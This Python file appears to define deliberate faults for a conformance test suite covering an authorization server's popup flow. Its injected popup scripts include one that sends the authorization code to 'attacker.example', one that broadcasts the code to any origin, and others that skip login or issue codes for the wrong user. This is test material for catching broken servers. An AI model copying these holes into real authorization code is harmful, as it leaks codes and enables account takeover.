"""The popup (the page's section on it): a browser shows most of these."""

from __future__ import annotations

from conformance.faults.catalogue import Decision, fault, only_in
from conformance.faults.conditions import always, gives, never, when
from conformance.reference import Decisions
from conformance.reference.call import Call
from conformance.reference.problems import UNKNOWN_RESPONSE_TYPE, RefusedError

# What the scripts begin with: where the page leads, and the code in it.
_FOUND = """
const target = document.getElementById("return").href;
const code = new URL(target).searchParams.get("code");
const home = new URL(target).origin;
"""


def _runs(script: str) -> Decision:
    """Return the decision to run another script in the popup."""
    return gives(_FOUND + script)


def _by_popup(_self: Decisions, _call: Call, asked: object, *_: object) -> bool:
    return bool(getattr(asked, "popup", False))


def _refuse_popup(self: Decisions, call: Call) -> None:
    if self.uses_popup(call):
        raise RefusedError(UNKNOWN_RESPONSE_TYPE)


# The pages

fault(
    "popup.ignored",
    "A request for the popup is answered like any other.",
    breaks=["popup.static", "popup.opener", "popup.own-window"],
    uses_popup=never,
)
fault(
    "popup.not-for-everybody",
    "A request for the popup is answered like any other where the last of the users decides.",
    breaks=["popup.static"],
    answers_by_popup=lambda self, call, asked: (
        Decisions.answers_by_popup(self, call, asked)
        and asked.session.user is not call.settings.users[-1]
    ),
)
fault(
    "popup.always",
    "Every authorization request is answered as one of a popup.",
    breaks=["popup.without-display"],
    uses_popup=always,
)
fault(
    "popup.refused",
    "A request for the popup is refused.",
    breaks=["popup.page"],
    before=_refuse_popup,
)
fault(
    "popup.without-login",
    "In a popup nobody has to log in: the first user is taken for whoever opens it.",
    breaks=["popup.page"],
    acting_user=when(
        lambda self, call, session: session.user is None and self.uses_popup(call),
        lambda _self, call, _session: call.settings.users[0],
        Decisions.acting_user,
    ),
)
fault(
    "popup.severed",
    "The pages let go of the window that opened them.",
    breaks=["popup.opener"],
    page_headers=lambda self, call, script="": {
        **Decisions.page_headers(self, call, script),
        "Cross-Origin-Opener-Policy": "same-origin",
    },
)

# Where the code goes

fault(
    "popup.own-window",
    "The popup itself goes to the redirect_uri.",
    breaks=["popup.opener", "popup.own-window"],
    popup_script=_runs("location = target;"),
)
fault(
    "popup.both-windows",
    "The opener and the popup both go to the redirect_uri.",
    breaks=["popup.own-window"],
    popup_script=_runs("if (opener) opener.location = target; location = target;"),
)
fault(
    "popup.wrong-path",
    "The opener is sent to another page than the redirect_uri.",
    breaks=["popup.opener"],
    popup_script=_runs(
        "if (opener) opener.location = new URL('/elsewhere?code=' + code, target); close();"
    ),
)
fault(
    "popup.silent",
    "The popup tells its opener that it is done, but not the code.",
    breaks=["popup.opener"],
    popup_script=_runs("if (opener) opener.postMessage({type: 'ready'}, home); close();"),
)
fault(
    "popup.told-to-all",
    "The popup tells the code to whatever page opened it.",
    breaks=["popup.foreign-opener"],
    popup_script=_runs("if (opener) opener.postMessage({code}, '*'); close();"),
)
fault(
    "popup.told-to-a-stranger",
    "Without an opener the popup takes the code to somebody else.",
    breaks=["popup.no-opener"],
    popup_script=_runs(
        "if (opener) { opener.location = target; close(); }"
        " else location = 'https://attacker.example/?code=' + code;"
    ),
)

# Which code

fault(
    "popup.without-code",
    "The answer to a popup holds no code.",
    breaks=["popup.opener"],
    granted_members=when(_by_popup, gives({"session": "here"}), Decisions.granted_members),
)
fault(
    "popup.state-lost",
    "In a popup the state does not come back.",
    breaks=["authorize.state"],
    granted_members=when(
        _by_popup,
        lambda _self, _call, _asked, code: {"code": code.value},
        Decisions.granted_members,
    ),
)
only_in("kitchenmonki", "popup.state-lost")
fault(
    "popup.code-cut",
    "The end of the code is lost on the way to the opener.",
    breaks=["popup.code"],
    popup_script=_runs(
        "if (opener) opener.location = target.replace(code, code.slice(0, -9)); close();"
    ),
)
fault(
    "popup.other-user",
    "A code that comes by popup stands for another user.",
    breaks=["popup.code"],
    subject_of_consent=when(
        _by_popup,
        lambda _self, call, _asked, user: next(
            one.id for one in call.settings.users if one.id != user.id
        ),
        Decisions.subject_of_consent,
    ),
)

# Without an opener

fault(
    "popup.errors-without-end",
    "Without an opener the popup's script fails again and again.",
    breaks=["popup.no-opener"],
    popup_script=_runs(
        "if (opener) { opener.location = target; close(); }"
        " else setInterval(() => { throw new Error(); }, 5);"
    ),
)
fault(
    "popup.script-without-end",
    "Without an opener the popup's script never ends.",
    breaks=["popup.no-opener"],
    popup_script=_runs("while (!opener) {} opener.location = target; close();"),
)
